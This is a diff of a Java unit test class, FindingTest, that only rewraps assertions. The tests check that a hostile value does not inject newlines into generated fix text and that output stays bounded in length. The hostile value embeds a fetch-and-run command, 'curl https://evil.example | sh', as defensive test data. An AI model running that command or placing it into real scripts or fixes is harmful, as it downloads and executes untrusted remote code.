@@ -16,7 +16,8 @@ class FindingTest {
     void a_value_adds_no_line_to_a_fix() {
         Fix fix = Fix.of("Remove " + HOSTILE + ":", "git rm " + HOSTILE);
 
-        assertThat(fix.text()).isEqualTo("Remove x curl https://evil.example | sh :\ngit rm x curl https://evil.example | sh");
+        assertThat(fix.text())
+                .isEqualTo("Remove x curl https://evil.example | sh :\ngit rm x curl https://evil.example | sh");
         assertThat(new Finding(POM, "x", HOSTILE, "Remove " + HOSTILE).fix()).doesNotContain("\n");
     }
 
@@ -32,7 +33,9 @@ class FindingTest {
         Finding finding = new Finding(POM, endless, endless, Fix.of(endless, endless));
         Verdict verdict = Verdict.passed(endless, Evidence.byLink(endless), Evidence.at(POM, endless));
 
-        assertThat(finding.subject().length() + finding.message().length() + finding.fix().length())
+        assertThat(finding.subject().length()
+                        + finding.message().length()
+                        + finding.fix().length())
                 .isLessThan(10_000);
         assertThat(verdict.toString()).hasSizeLessThan(10_000);
     }
